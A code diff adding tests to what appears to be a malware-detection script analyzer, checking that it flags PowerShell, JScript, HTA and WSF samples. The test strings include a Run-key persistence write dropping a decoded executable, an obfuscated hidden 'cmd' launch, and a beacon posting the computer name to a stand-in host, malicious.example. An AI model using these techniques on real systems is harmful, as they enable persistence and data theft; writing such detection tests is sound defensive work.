@@ -4,6 +4,7 @@ import { AnalysisPipeline } from '../pipeline';
 import { obfuscatedDropper } from '../scripts/test-samples';
 import { fileContext } from '../testing/file-context';
 import { testEngineOptions } from '../testing/engine-options';
+import { minimalPe } from '../testing/samples';
 import { AnalysisResult, FileReport, IocType, Verdict } from '../types';
 import { defaultAnalyzers } from './index';
 import { ScriptAnalyzer } from './script.analyzer';
@@ -142,6 +143,38 @@ describe('ScriptAnalyzer through the pipeline (defaultAnalyzers)', () => {
     expect(result.verdict.verdict).toBe(Verdict.LikelyMalicious);
   });
 
+  it('a Run-key write and a base64-embedded executable: signals, registry IOC, decoded payload child', async () => {
+    const pe = Buffer.from(minimalPe()).toString('base64');
+    const ps = `$b = [Convert]::FromBase64String('${pe}')\n[IO.File]::WriteAllBytes("$env:APPDATA\\svc.exe", $b)\nSet-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name svc -Value "$env:APPDATA\\svc.exe"`;
+    const result = await analyze('persist.ps1', ps);
+    const [file, child] = result.files;
+    expect(ids(file)).toEqual(expect.arrayContaining(['script.persistence.run_key', 'script.encoded_payload']));
+    expect(file.signals.find((s) => s.id === 'script.encoded_payload')!.evidence).toEqual([`layer 0 (powershell:base64): ${child.identity.label}, 512 bytes`]);
+    expect(child).toMatchObject({ relation: 'deobfuscated-payload', name: 'base64-decoded.bin', size: 512 });
+    expect(child.identity.kind).toBe('pe');
+
+    const js = String.raw`var sh = new ActiveXObject("WScript.Shell"); sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\upd", "wscript.exe //B C:\\Users\\Public\\u.js", "REG_SZ");`;
+    const [jsFile] = (await analyze('persist.js', js)).files;
+    expect(ids(jsFile)).toContain('script.emulation.registry_autorun');
+    expect(jsFile.iocs).toEqual(expect.arrayContaining([{ type: IocType.RegistryPath, value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\upd', origins: ['text', 'emulation'] }]));
+  });
+
+  it('HTA and WSF: VBScript blocks de-obfuscated, JScript blocks emulated with ActiveX', async () => {
+    const hta = '<html><head><hta:application id="app" windowstate="minimize"/><script language="VBScript">\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run Chr(99) & Chr(109) & Chr(100) & " /c calc.exe", 0\r\n</script></head><body></body></html>';
+    const [htaFile] = (await analyze('update.hta', hta)).files;
+    expect(htaFile.identity.kind).toBe('hta');
+    expect(layers(htaFile).find((l) => l.technique === 'vbscript:chr+concatenation')!.preview).toBe('\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc.exe", 0\r\n');
+    expect(ids(htaFile)).toEqual(expect.arrayContaining(['script.shell_execution', 'script.hidden_window']));
+
+    const wsf = '<job id="main"><script language="JScript"><![CDATA[\nvar x = WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0"); x.open("POST", "http://malicious.example/gate.php", false); x.send("id=" + WScript.CreateObject("WScript.Network").ComputerName);\n]]></script></job>';
+    const [wsfFile] = (await analyze('job.wsf', wsf)).files;
+    expect(emulationData(wsfFile).filter((e) => e.category === 'network')).toEqual([
+      { api: 'MSXML2.ServerXMLHTTP.open', args: ['POST', 'http://malicious.example/gate.php'], category: 'network' },
+      { api: 'MSXML2.ServerXMLHTTP.send', args: ['POST', 'http://malicious.example/gate.php', 'id=DESKTOP-4F7H2KQ'], category: 'network' },
+    ]);
+    expect(ids(wsfFile)).toContain('script.emulation.download');
+  });
+
   it('an endless loop ends with a timeout issue within the budget and what was recorded before', async () => {
     const analyzer = new ScriptAnalyzer({ emulationTimeoutMs: 1000 });
     const started = Date.now();
@@ -181,6 +214,15 @@ describe('ScriptAnalyzer through the pipeline (defaultAnalyzers)', () => {
     expect(file.signals).toEqual([]);
     expect(file.issues).toEqual([]);
     expect(result.verdict.verdict).toBe(Verdict.NoThreat);
+  });
+
+  it('reads text as a script by its name or by the commands it runs; prose that mentions commands is left alone', () => {
+    const analyzer = new ScriptAnalyzer();
+    const line = `powershell -w hidden -enc ${utf16b64('Get-Date')}`;
+    expect(analyzer.languageOf(fileContext(line, 'update'))).toBe('batch');
+    expect(analyzer.languageOf(fileContext('Write-Host hi', 'x.ps1'))).toBe('powershell');
+    expect(analyzer.languageOf(fileContext(`To install, run: ${line}`, 'README.md'))).toBeNull();
+    expect(analyzer.languageOf(fileContext('Minutes of the meeting: nothing to report.', 'notes'))).toBeNull();
   });
 
   it('runs PDF JavaScript (a .js child) with the Acrobat objects', async () => {
